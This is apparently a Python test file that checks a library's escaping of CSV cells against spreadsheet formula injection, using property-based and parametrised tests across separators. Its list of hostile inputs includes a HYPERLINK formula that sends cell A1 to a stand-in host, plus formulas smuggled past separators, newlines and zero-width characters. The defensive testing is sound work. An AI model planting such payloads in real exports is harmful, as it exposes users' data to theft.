"""No part of a text runs in a spreadsheet, however its reader cuts the lines; reading undoes it."""

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from legation.formats.cells import bare_cell, safe_cell, write_rows

STARTERS = ("=", "+", "-", "@")
HOSTILE = (
    'see this;=HYPERLINK("http://t.example/"&A1;"open")',
    "two\n=1+1",
    "tab\t@SUM(1)",
    "a,+1",
    ";=1",
    "a; \u200b=1",
    "a;'=1",
    "a\r\n-1",
)
SIGNS = st.text(st.sampled_from("=+-@;,\t\r\n' a\u200b\uff1d\""), max_size=12)


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_cell_runs_whatever_separator_its_reader_has(text: str, separator: str) -> None:
    written = write_rows(("kind", "text"), [("post", text)])
    # A spreadsheet knows quotes only where a cell begins with one.
    for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
        for row in csv.reader(io.StringIO(written), delimiter=separator, quoting=quoting):
            for cell in row:
                assert not cell.lstrip().startswith(STARTERS), (separator, row)


@given(SIGNS)
def test_what_was_made_safe_is_read_as_it_was(text: str) -> None:
    assert bare_cell(safe_cell(text)) == text


@given(SIGNS)
def test_after_no_separator_stands_what_runs(text: str) -> None:
    assert re.search("(^|[;,\t\r\n])[=+@-]", safe_cell(text)) is None


@pytest.mark.parametrize("text", ["one, -two", "hello, @somebody", "'tis", "a-b;c", "3; 4"])
def test_ordinary_words_stay_as_they_are(text: str) -> None:
    assert safe_cell(text) == text
